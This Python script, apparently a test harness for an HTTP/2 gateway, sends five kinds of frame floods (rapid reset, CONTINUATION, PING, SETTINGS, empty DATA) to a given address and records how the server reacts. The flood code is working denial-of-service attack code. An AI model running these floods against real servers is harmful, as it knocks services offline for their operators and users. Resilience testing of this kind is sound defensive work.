"""HTTP/2 floods against a gateway, written frame by frame with hyperframe.

    python3 h2_flood.py ADDR rapid-reset N      # HEADERS + RST_STREAM(CANCEL) x N
    python3 h2_flood.py ADDR continuation N     # one HEADERS, then N CONTINUATION frames
    python3 h2_flood.py ADDR ping N             # N PINGs
    python3 h2_flood.py ADDR settings N         # N empty SETTINGS
    python3 h2_flood.py ADDR empty-data N       # one POST stream, then N empty DATA frames

Prints one JSON line: what the server sent back (GOAWAY and its error code, how many
PING or SETTINGS acks, RST_STREAMs, HEADERS), whether the connection was closed, and how
many flood frames were written before the server stopped reading or closed. Every phase
is bounded in time.
"""

import json
import socket
import sys
import time

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)
from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


def request_block(enc, method="GET", path="/flood"):
    return enc.encode(
        [(":method", method), (":scheme", "http"), (":authority", "gw.test"), (":path", path)]
    )


def frames(data):
    """Splits bytes into (frames, rest)."""
    out = []
    while len(data) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(data[:9]))
        if len(data) < 9 + length:
            break
        frame.parse_body(memoryview(data[9 : 9 + length]))
        out.append(frame)
        data = data[9 + length :]
    return out, data


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    kind, n = sys.argv[2], int(sys.argv[3])
    s = socket.create_connection((host, int(port)), timeout=5)
    s.sendall(PREFACE + SettingsFrame(0).serialize())
    enc = Encoder()
    written = 0
    closed = False
    started = time.monotonic()
    try:
        if kind == "rapid-reset":
            for i in range(n):
                sid = 1 + 2 * i
                h = HeadersFrame(sid, request_block(enc))
                h.flags.add("END_HEADERS")
                h.flags.add("END_STREAM")
                s.sendall(h.serialize() + RstStreamFrame(sid, CANCEL).serialize())
                written += 1
        elif kind == "continuation":
            h = HeadersFrame(1, request_block(enc))
            s.sendall(h.serialize())
            block = enc.encode([("x-flood", "a" * 1000)])
            for _ in range(n):
                s.sendall(ContinuationFrame(1, block).serialize())
                written += 1
        elif kind == "ping":
            for i in range(n):
                s.sendall(PingFrame(0, i.to_bytes(8, "big")).serialize())
                written += 1
        elif kind == "settings":
            for _ in range(n):
                s.sendall(SettingsFrame(0).serialize())
                written += 1
        elif kind == "empty-data":
            h = HeadersFrame(1, request_block(enc, "POST"))
            h.flags.add("END_HEADERS")
            s.sendall(h.serialize())
            for _ in range(n):
                s.sendall(DataFrame(1, b"").serialize())
                written += 1
        else:
            raise SystemExit(f"unknown flood {kind}")
    except (BrokenPipeError, ConnectionResetError, socket.timeout):
        closed = True
    seen = {"goaway": None, "ping_acks": 0, "settings_acks": 0, "rst_stream": 0, "headers": 0}
    data = b""
    deadline = time.monotonic() + 5
    s.settimeout(0.5)
    while time.monotonic() < deadline:
        try:
            chunk = s.recv(65536)
        except socket.timeout:
            if seen["goaway"] is not None:
                break
            continue
        except ConnectionResetError:
            closed = True
            break
        if not chunk:
            closed = True
            break
        parsed, data = frames(data + chunk)
        for f in parsed:
            if isinstance(f, GoAwayFrame):
                seen["goaway"] = f.error_code
            elif isinstance(f, PingFrame) and "ACK" in f.flags:
                seen["ping_acks"] += 1
            elif isinstance(f, SettingsFrame) and "ACK" in f.flags:
                seen["settings_acks"] += 1
            elif isinstance(f, RstStreamFrame):
                seen["rst_stream"] += 1
            elif isinstance(f, HeadersFrame):
                seen["headers"] += 1
    seen["closed"] = closed
    seen["written"] = written
    seen["seconds"] = round(time.monotonic() - started, 3)
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
